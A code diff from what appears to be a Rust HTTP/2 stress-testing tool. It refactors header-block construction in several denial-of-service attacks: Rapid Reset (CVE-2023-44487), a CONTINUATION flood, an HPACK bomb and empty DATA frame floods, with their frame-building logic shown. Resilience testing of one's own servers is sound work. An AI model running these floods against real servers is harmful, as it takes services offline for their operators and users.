@@ -13,7 +13,7 @@ use crate::{
 /// CVE-2023-44487.
 pub(crate) const RAPID_RESET: Attack = Attack::new("h2: rapid reset of streams", |target| {
     flood(target, |target, round| {
-        let block = frames::stream_block(target, "quiet");
+        let block = frames::stream_block(target.app, target.token.as_deref(), "quiet");
         let flags = frames::END_HEADERS | frames::END_STREAM;
         let mut bytes = Vec::new();
         for number in 0..50 {
@@ -51,7 +51,7 @@ pub(crate) const CONTINUATION: Attack = Attack::new("h2: CONTINUATION flood", |t
         if round > 0 {
             return more;
         }
-        let block = frames::stream_block(target, "quiet");
+        let block = frames::stream_block(target.app, target.token.as_deref(), "quiet");
         let mut bytes = frame(frames::HEADERS, frames::END_STREAM, 1, &block);
         bytes.extend(more);
         bytes
@@ -62,7 +62,7 @@ pub(crate) const CONTINUATION: Attack = Attack::new("h2: CONTINUATION flood", |t
 /// One large field in the table, then references to it: 4 KB for a byte.
 pub(crate) const HPACK_BOMB: Attack = Attack::new("h2: HPACK bomb", |target| {
     flood(target, |target, round| {
-        let mut block = frames::stream_block(target, "quiet");
+        let mut block = frames::stream_block(target.app, target.token.as_deref(), "quiet");
         // A literal with indexing: it is entry 62 from now on.
         block.push(0x40);
         for text in ["x-bomb", &"z".repeat(3900)] {
@@ -83,7 +83,7 @@ pub(crate) const EMPTY_DATA: Attack = Attack::new("h2: empty DATA frames", |targ
         if round > 0 {
             return data;
         }
-        let block = frames::stream_block(target, "quiet");
+        let block = frames::stream_block(target.app, target.token.as_deref(), "quiet");
         let mut bytes = frame(frames::HEADERS, frames::END_HEADERS, 1, &block);
         bytes.extend(data);
         bytes
